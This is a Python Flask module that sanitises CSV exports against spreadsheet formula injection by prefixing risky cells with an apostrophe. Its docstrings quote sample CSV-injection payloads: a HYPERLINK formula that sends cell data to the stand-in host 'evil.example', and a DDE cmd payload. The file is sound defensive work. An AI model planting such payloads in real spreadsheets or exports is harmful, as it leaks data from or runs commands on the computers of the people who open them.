"""The one CSV writer every export goes through, so no cell runs as a spreadsheet formula.

A student's name or answer such as ``=HYPERLINK("http://evil.example?"&A1)`` or ``@SUM(1+1)`` is run by
Excel, LibreOffice and Google Sheets when an instructor opens the export. Following OWASP's advice on
CSV injection, a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'``, which spreadsheets read as "this is text" and do not show. Numbers (``int``, ``float``,
and text that is exactly a decimal number, like ``-0.5``) stay as they are, so scores still sum.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

from flask import Response

__all__ = ["FORMULA_PREFIXES", "csv_cell", "csv_response", "csv_text"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell that a spreadsheet shows but never runs.

    Examples
    --------
    >>> [csv_cell(v) for v in ("=1+1", "@SUM(A1)", "-m*g", "m*g", -3, 0.5, "-0.5", None)]
    ["'=1+1", "'@SUM(A1)", "'-m*g", 'm*g', -3, 0.5, '-0.5', '']
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Sequence[Any] | Mapping[str, Any]], header: Sequence[str] | None = None) -> str:
    """The CSV document (``\\r\\n`` line ends, RFC 4180) of ``rows``, every cell through :func:`csv_cell`.

    ``rows`` are sequences, or mappings read in the order of ``header`` (missing keys are empty cells).

    Examples
    --------
    >>> print(csv_text([{"name": "=cmd|' /C calc'!A0", "score": 1.0}], header=["name", "score"]), end="")
    name,score
    '=cmd|' /C calc'!A0,1.0
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        cells = [row.get(name) for name in header or ()] if isinstance(row, Mapping) else row
        writer.writerow([csv_cell(cell) for cell in cells])
    return out.getvalue()


def csv_response(rows: Iterable[Sequence[Any] | Mapping[str, Any]], filename: str,
                 header: Sequence[str] | None = None) -> Response:
    """A download of :func:`csv_text`, named ``filename`` (reduced to letters, digits, ``.``, ``_``, ``-``)."""
    safe_name = _FILENAME_UNSAFE.sub("_", filename).strip("._") or "export.csv"
    return Response(csv_text(rows, header), mimetype="text/csv",
                    headers={"Content-Disposition": f'attachment; filename="{safe_name}"',
                             "X-Content-Type-Options": "nosniff"})
